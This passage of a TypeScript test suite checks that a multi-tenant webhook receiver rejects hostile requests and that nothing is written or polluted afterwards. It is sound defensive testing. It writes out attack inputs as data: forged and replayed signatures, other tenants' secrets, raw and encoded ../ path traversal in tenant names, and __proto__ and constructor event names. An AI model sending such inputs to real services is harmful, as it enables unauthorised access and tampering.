  { name: 'webhook headers without webhook-id', status: 401, build: () => {
      const b = buf(J(task()));
      return reject(unsigned('tasks/created', b, whHeaders(b).filter(([k]) => k !== 'webhook-id')));
    } },
  { name: 'stale webhook-timestamp (6 min old)', status: 401, build: () => reject(wh('tasks/created', J(task()), { ts: nowS() - 360 })) },
  { name: 'future webhook-timestamp (6 min ahead)', status: 401, build: () => reject(wh('tasks/created', J(task()), { ts: nowS() + 360 })) },
  { name: 'webhook-timestamp in exponent notation', status: 401, build: () => {
      const b = buf(J(task()));
      const h = whHeaders(b).map(([k, v]): [string, string] => [k, k === 'webhook-timestamp' ? `${(nowS() / 1e9).toFixed(9)}e9` : v]);
      return reject(unsigned('tasks/created', b, h));
    } },
  { name: 'webhook-signature with a v2 scheme', status: 401, build: () => {
      const b = buf(J(task()));
      return reject(unsigned('tasks/created', b, whHeaders(b).map(([k, v]): [string, string] => [k, k === 'webhook-signature' ? v.replace('v1,', 'v2,') : v])));
    } },
  {
    name: 'replayed signature (same id, timestamp, signature) on a new body',
    status: 401,
    build: async () => {
      const first = buf(J(task()));
      const h = whHeaders(first);
      const ok = await send({ method: 'POST', path: hookPath('tasks/created'), headers: [...JSON_CT, ...h], body: first });
      expect(ok.status).toBe(202);
      return reject(unsigned('tasks/created', J(task()), h));
    },
  },
  {
    name: 'exact replay of an accepted delivery is a duplicate: 202, nothing new written',
    status: 202,
    build: async () => {
      const first = buf(J(task()));
      const h = whHeaders(first);
      const ok = await send({ method: 'POST', path: hookPath('tasks/created'), headers: [...JSON_CT, ...h], body: first });
      expect(ok.status).toBe(202);
      return { wire: unsigned('tasks/created', first, h), writes: 0, check: (r) => expect(r.body).toEqual({ id: ok.body.id, duplicate: true }) };
    },
  },
  { name: 'Standard Webhooks signature made with another tenant’s secret', status: 401, build: () => reject(wh('tasks/created', J(task()), { secret: other.webhookSecret })) },
  { name: 'hub signature made with another tenant’s secret', status: 401, build: () => {
      const b = buf(J(task()));
      return reject(unsigned('tasks/created', b, hubHeaders(b, other.hubSecret)));
    } },
  { name: 'another tenant’s bearer token', status: 401, build: () => reject(unsigned('flows/events', J(step()), [['authorization', `Bearer ${other.token}`]])) },
  { name: 'hub signature with sha1', status: 401, build: () => {
      const b = buf(J(task()));
      return reject(unsigned('tasks/created', b, [['x-hub-signature', hubHeaders(b)[0]![1].replace('sha256=', 'sha1=')]]));
    } },
  { name: 'hub signature of a different body', status: 401, build: () => reject(unsigned('tasks/created', J(task()), hubHeaders(buf(J(task()))))) },
  { name: 'empty x-hub-signature', status: 401, build: () => reject(unsigned('tasks/created', J(task()), [['x-hub-signature', '']])) },
  {
    name: 'two x-hub-signature headers, both valid',
    status: 401,
    build: () => {
      const b = buf(J(task()));
      const [[k, v]] = hubHeaders(b) as [[string, string]];
      return reject(unsigned('tasks/created', b, [[k, v], [k, v]]));
    },
  },
  {
    name: 'two webhook-id headers',
    status: 401,
    build: () => {
      const b = buf(J(task()));
      const h = whHeaders(b, { id: 'msg_dup_id' });
      return reject(unsigned('tasks/created', b, [...h, ['webhook-id', 'msg_other_id']]));
    },
  },
  {
    // Node joins repeated headers with ", "; "v1,<bad>, v1,<good>" is a signature list with one match,
    // just like the rotation list "v1,<old> v1,<new>". Documented as accepted.
    name: 'two webhook-signature headers, one forged and one valid (read as a signature list)',
    status: 202,
    build: () => {
      const body = task();
      const b = buf(J(body));
      const h = whHeaders(b);
      const sig = h.find(([k]) => k === 'webhook-signature')!;
      return accept(unsigned('tasks/created', b, [...h.filter(([k]) => k !== 'webhook-signature'), ['webhook-signature', 'v1,Zm9yZ2Vk'], sig]), [{ ...body, eventType: 'CREATED' }]);
    },
  },
  {
    name: 'two webhook-signature headers, both forged',
    status: 401,
    build: () => {
      const b = buf(J(task()));
      const h = whHeaders(b).filter(([k]) => k !== 'webhook-signature');
      return reject(unsigned('tasks/created', b, [...h, ['webhook-signature', 'v1,Zm9yZ2Vk'], ['webhook-signature', `v1,${randomBytes(32).toString('base64')}`]]));
    },
  },
  {
    // Node keeps only the first Authorization header.
    name: 'two authorization headers, a wrong one first',
    status: 401,
    build: () => reject(unsigned('tasks/created', J(task()), [['authorization', 'Bearer cxf_wrong'], ['authorization', `Bearer ${T().token}`]])),
  },
  {
    // A valid Standard Webhooks signature wins even when a forged hub signature is also present.
    name: 'valid webhook headers plus a forged x-hub-signature are judged on the webhook signature',
    status: 202,
    build: () => {
      const body = task();
      return accept(wh('tasks/created', J(body), { extra: [['x-hub-signature', 'sha256=00']] }), [{ ...body, eventType: 'CREATED' }]);
    },
  },
  {
    // The btree on (tenant, event_id) holds at most ~2.7 KB per entry; a longer id must not break the insert.
    name: 'webhook-id of 8 KB, validly signed, is accepted',
    status: 202,
    build: () => {
      const body = task({ eventId: undefined });
      return accept(wh('tasks/created', J(body), { id: `msg_${randomBytes(6000).toString('base64url')}` }), [{ ...body, eventType: 'CREATED' }], (r) => {
        expect(r.body.id.length).toBeLessThanOrEqual(200);
      });
    },
  },
  {
    name: 'the same 8 KB webhook-id again is a duplicate',
    status: 202,
    build: async () => {
      const id = `msg_${randomBytes(6000).toString('base64url')}`;
      const first = await send(wh('tasks/created', J(task({ eventId: undefined })), { id }));
      expect(first.status).toBe(202);
      return { wire: wh('tasks/created', J(task({ eventId: undefined })), { id }), writes: 0, check: (r) => expect(r.body).toEqual({ id: first.body.id, duplicate: true }) };
    },
  },
  {
    name: 'flow batch under an 8 KB webhook-id is accepted',
    status: 202,
    build: () => {
      const items = [step({ eventId: undefined }), step({ eventId: undefined })];
      return accept(wh('flows/events', J(items), { id: `msg_${randomBytes(6000).toString('base64url')}` }), items);
    },
  },

  // --- tenants, paths and methods
  { name: 'unknown tenant', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: 'nobody-here' })) },
  { name: 'tenant "..": /v1/hooks/../tasks/created', status: 404, build: () => reject({ ...hub('tasks/created', J(task())), path: '/v1/hooks/../tasks/created' }) },
  { name: 'raw ../ between tenant segments', status: 404, build: () => reject({ ...hub('tasks/created', J(task())), path: `/v1/hooks/other-co/../${T().tenant}/tasks/created` }) },
  { name: 'tenant %2e%2e%2f (encoded ../)', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: `%2e%2e%2f${T().tenant}` })) },
  { name: 'tenant with an encoded slash', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: `x%2F..%2F${T().tenant}` })) },
  { name: 'tenant with encoded backslashes', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: `..%5c..%5c${T().tenant}` })) },
  { name: 'double-encoded ../', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: '%252e%252e%252f' })) },
  { name: 'tenant in upper case', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: T().tenant.toUpperCase() })) },
  { name: 'tenant of 64 characters', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: 'a'.repeat(64) })) },
  { name: 'tenant of 2,000 characters', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: 'b'.repeat(2000) })) },
  { name: 'tenant with an encoded NUL', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: `${T().tenant}%00` })) },
  { name: 'tenant with a trailing encoded space', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: `${T().tenant}%20` })) },
  { name: 'tenant with a Cyrillic homoglyph', status: 404, build: () => reject(hub('tasks/created', J(task()), { tenant: encodeURIComponent(`${T().tenant}`.replace('a', 'а')) })) },
  { name: 'malformed percent-encoding in the tenant → 400', status: 400, build: () => reject(hub('tasks/created', J(task()), { tenant: '%E0%A4%A' })) },
  { name: 'malformed percent-encoding in the event name → 400', status: 400, build: () => reject(hub('tasks/%ZZ', J(task()))) },
  { name: 'unknown event name', status: 404, build: () => reject(hub('tasks/exploded', J(task()))) },
  { name: 'event name __proto__', status: 404, build: () => reject(hub('tasks/__proto__', J(task()))) },
  { name: 'event name constructor', status: 404, build: () => reject(hub('tasks/constructor', J(task()))) },
  { name: 'PUT on a hook path', status: 404, build: () => reject({ ...hub('tasks/created', J(task())), method: 'PUT' }) },
  { name: 'DELETE on a hook path', status: 404, build: () => reject({ ...hub('flows/events', J(step())), method: 'DELETE' }) },
  { name: 'HEAD probe', status: 200, build: () => ({ wire: { method: 'HEAD', path: hookPath('flows/events'), headers: [], body: Buffer.alloc(0) } }) },
  { name: 'GET probe with a body', status: 200, build: () => ({ wire: { method: 'GET', path: hookPath('tasks'), headers: JSON_CT, body: Buffer.from(J(task())) }, check: (r) => expect(r.body).toEqual({ ok: true }) }) },

  // --- headers
  { name: '20 KB header → 431 from Node', status: 431, build: () => reject(hub('tasks/created', J(task()), { extra: [['x-padding', 'p'.repeat(20 * 1024)]] })) },

  // --- body shapes
  { name: 'JSON null on the task endpoint', status: 422, build: () => reject(hub('tasks/created', 'null')) },
  { name: 'JSON array on the task endpoint', status: 422, build: () => reject(hub('tasks/created', J([task()]))) },
  { name: 'JSON string on the task endpoint', status: 422, build: () => reject(hub('tasks', J('{"taskId":"t"}'))) },
  { name: 'JSON number on the flow endpoint', status: 422, build: () => reject(hub('flows/events', '42')) },
  { name: 'empty flow batch', status: 422, build: () => reject(hub('flows/events', '[]')) },
  { name: 'flow batch holding null', status: 422, build: () => reject(hub('flows/events', J([step(), null])), expectErrorAt('/1')) },
  { name: 'flow batch of batches', status: 422, build: () => reject(hub('flows/events', J([[step()], [step()]]))) },
  { name: 'flow batch of 501 events', status: 422, build: () => reject(hub('flows/events', J(Array.from({ length: 501 }, () => step())))) },
  {
    name: 'flow batch of 500 valid events and one invalid in the middle → 422, nothing written',
    status: 422,
    build: () => {
      const items = Array.from({ length: 500 }, (_, i) => (i === 250 ? step({ seq: 'one' }) : step()));
      return reject(hub('flows/events', J(items)), (r) => expect(errorPaths(r)).toEqual(['/250/seq']));
    },
  },
  {
    name: 'flow batch mixing valid items with a task event and a far-future one → 422',
    status: 422,
    build: () => reject(hub('flows/events', J([started(), task(), step({ timestamp: iso(3 * 86_400_000) }), step()])), expectErrorAt('/1/type', '/2/timestamp')),
  },
  {
    name: 'flow batch of exactly 500 events is accepted whole',
    status: 202,
    build: () => {
      const items = Array.from({ length: 500 }, (_, i) => step({ seq: i }));
      return accept(hub('flows/events', J(items)), items);
    },
  },
];

// ---------------------------------------------------------------------------------------------

async function rawCount(): Promise<number> {
  const { n } = await one(env.db.sql<{ n: number }[]>`select count(*)::int as n from raw_events`);
  return n;
}

test('the table holds at least 60 hostile requests', () => {
  expect(rows.length).toBeGreaterThanOrEqual(60);
  expect(new Set(rows.map((r) => r.name)).size).toBe(rows.length);
});

test.each(rows.map((r) => [r.name, r] as const))('%s', async (_name, row) => {
  const built = await row.build();
  const before = await rawCount();
  const r = await send(built.wire);
  const after = await rawCount();

  const context = `${row.name}: ${r.status} ${r.text.slice(0, 300)}`;
  expect({ context, status: r.status }).toEqual({ context, status: row.status });
  expect(r.status).toBeLessThan(500);
  expect(r.ms).toBeLessThan(5_000);

  if (row.status >= 400 && row.status !== 431) {
    expect(r.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(r.body).toMatchObject({ status: row.status, title: expect.any(String), type: expect.any(String) });
    expect(r.text).not.toMatch(/at .*\.[jt]s:\d+/);
  }

  if (row.status === 202) {
    const results: { id: string; duplicate: boolean }[] = Array.isArray(r.body.results) ? r.body.results : [r.body];
    const writes = built.writes ?? built.stored?.length ?? 1;
    expect(after - before).toBe(writes);
    expect(results.filter((x) => !x.duplicate)).toHaveLength(writes);
    if (built.stored) {
      const ids = results.map((x) => x.id);
      const stored = await env.db.sql<{ event_id: string; payload: unknown }[]>`select event_id, payload from raw_events where event_id = any(${ids})`;
      const byId = new Map(stored.map((s) => [s.event_id, s.payload]));
      expect(ids.map((id) => byId.get(id))).toEqual(built.stored);
    }
  } else {
    expect(after).toBe(before);
  }
  await built.check?.(r);
});

test('afterwards: the tables still exist, nothing was polluted, the server still answers', async () => {
  const { tables } = await one(env.db.sql<{ tables: string[] }[]>`select array[to_regclass('raw_events')::text, to_regclass('tenants')::text, to_regclass('tenant_secrets')::text] as tables`);
  expect(tables).toEqual(['raw_events', 'tenants', 'tenant_secrets']);
  expect(await rawCount()).toBeGreaterThan(0);
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect(Object.prototype).not.toHaveProperty('polluted');
  const probe = await send({ method: 'HEAD', path: hookPath('tasks/created'), headers: [], body: Buffer.alloc(0) });
  expect(probe.status).toBe(200);
});
